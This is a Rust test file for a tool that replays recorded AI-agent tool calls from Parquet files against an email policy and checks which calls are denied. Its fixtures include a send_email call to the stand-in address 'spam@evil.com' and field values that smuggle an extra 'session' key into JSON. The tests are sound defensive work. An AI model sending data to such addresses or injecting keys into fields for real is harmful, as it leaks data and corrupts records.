//! `sqrt replay` on Parquet files: rows are calls, in either of the two schemas, and a column is never more than its value.

#![allow(clippy::expect_used, clippy::indexing_slicing, reason = "a test may fail by panicking")]

mod common;

use common::{Folder, MAIL, Run, run, run_with};
use parquet::basic::{Compression, ZstdLevel};
use parquet::data_type::{ByteArray, ByteArrayType};
use parquet::file::properties::WriterProperties;
use parquet::file::writer::SerializedFileWriter;
use parquet::schema::parser::parse_message_type;
use serde_json::{Value, json};
use std::fs::{self, File};
use std::sync::Arc;

/// Writes columns of optional texts.
fn write(
    folder: &Folder,
    name: &str,
    compression: Compression,
    columns: &[(&str, &[Option<&str>])],
) -> String {
    let path = folder.path(name);
    let fields: String = columns.iter().map(|(name, _)| format!("optional binary {name} (UTF8); ")).collect();
    let schema = parse_message_type(&format!("message calls {{ {fields} }}")).expect("a schema");
    let properties = WriterProperties::builder().set_compression(compression).build();
    let file = File::create(&path).expect("a file");
    let mut writer =
        SerializedFileWriter::new(file, Arc::new(schema), Arc::new(properties)).expect("a writer");
    let mut group = writer.next_row_group().expect("a row group");
    for (_, cells) in columns {
        let mut column = group.next_column().expect("no error").expect("a column");
        let values: Vec<ByteArray> = cells.iter().flatten().map(|text| ByteArray::from(*text)).collect();
        let levels: Vec<i16> = cells.iter().map(|cell| i16::from(cell.is_some())).collect();
        column.typed::<ByteArrayType>().write_batch(&values, Some(&levels), None).expect("values");
        column.close().expect("a column");
    }
    group.close().expect("a row group");
    writer.close().expect("a file");
    path
}

fn report(run: &Run) -> Value {
    serde_json::from_str(run.stdout.trim_end()).unwrap_or_else(|_| json!(run.stderr))
}

fn replay(mail: &str, calls: &str) -> Run {
    run(["replay", mail, "--calls", calls, "--format", "json"])
}

#[test]
fn rows_are_calls_in_both_schemas() {
    let folder = Folder::new();
    let mail = folder.file("mail.sqrt", MAIL);
    let whole = [
        Some("{\"tool\": \"send_email\", \"args\": {\"to\": \"spam@evil.com\"}}"),
        Some("{\"session\": \"a\",\n\"tool\": \"send_email\"}"),
        Some("no json"),
        None,
    ];
    let zstd = Compression::ZSTD(ZstdLevel::default());
    for (number, compression) in
        [Compression::UNCOMPRESSED, Compression::SNAPPY, zstd].into_iter().enumerate()
    {
        let calls = write(
            &folder,
            &format!("whole{number}"),
            compression,
            &[("time", &[Some("t"); 4]), ("call", &whole)],
        );
        let run = replay(&mail, &calls);
        let report = report(&run);
        assert_eq!(
            (run.status, &report["new"]["denied"], &report["new"]["allowed"]),
            (2, &json!(1), &json!(1))
        );
        assert_eq!(report["problems"]["first"][0]["line"], json!(3));
    }
    let columns: [(&str, &[Option<&str>]); 4] = [
        ("session", &[Some("a"), None, Some("q\"uote")]),
        ("tool", &[Some("send_email"), Some("send_email"), Some("send_email")]),
        ("args", &[Some("{\"to\": \"spam@evil.com\"}"), None, Some("{\"to\": \n\"ann@corp.com\"}")]),
        ("result", &[None, Some("\"ok\""), None]),
    ];
    let calls = write(&folder, "columns", Compression::UNCOMPRESSED, &columns);
    let run = replay(&mail, &calls);
    let report = report(&run);
    assert_eq!(
        (run.status, &report["new"]["denied"], &report["sessions"]),
        (0, &json!(1), &json!(3)),
        "{report}"
    );
}

#[test]
fn a_column_is_no_more_than_its_value() {
    let folder = Folder::new();
    let mail = folder.file("mail.sqrt", MAIL);
    let columns: [(&str, &[Option<&str>]); 2] = [
        ("tool", &[Some("send_email"), Some("send_email"), Some("a\", \"session\": \"b")]),
        ("args", &[Some("{}, \"session\": \"b\""), Some("{} {}"), Some("{}")]),
    ];
    let run = replay(&mail, &write(&folder, "calls", Compression::UNCOMPRESSED, &columns));
    let report = report(&run);
    assert_eq!((run.status, &report["problems"]["count"], &report["calls"]), (2, &json!(2), &json!(1)));
    assert_eq!(report["tools"][0]["tool"], json!("a\", \"session\": \"b"));
}

#[test]
fn what_cannot_be_read_is_told() {
    let folder = Folder::new();
    let mail = folder.file("mail.sqrt", MAIL);
    let other =
        write(&folder, "other", Compression::UNCOMPRESSED, &[("tool", &[Some("t")]), ("when", &[None])]);
    let refused = replay(&mail, &other);
    assert_eq!(refused.status, 2);
    assert!(refused.stderr.contains("the column `when` is no key of a call"), "{}", refused.stderr);
    let bytes = fs::read(&other).expect("the file");
    for length in [4, 20, bytes.len() - 1] {
        let cut = folder.file("cut", &bytes[..length]);
        let refused = replay(&mail, &cut);
        assert_eq!(refused.status, 2, "{length}");
        assert!(refused.stderr.contains("cannot read"), "{}", refused.stderr);
    }
    let piped = run_with(["replay", &mail], &bytes);
    assert_eq!(piped.status, 2);
    assert!(piped.stderr.contains("give the file by its name"), "{}", piped.stderr);
}
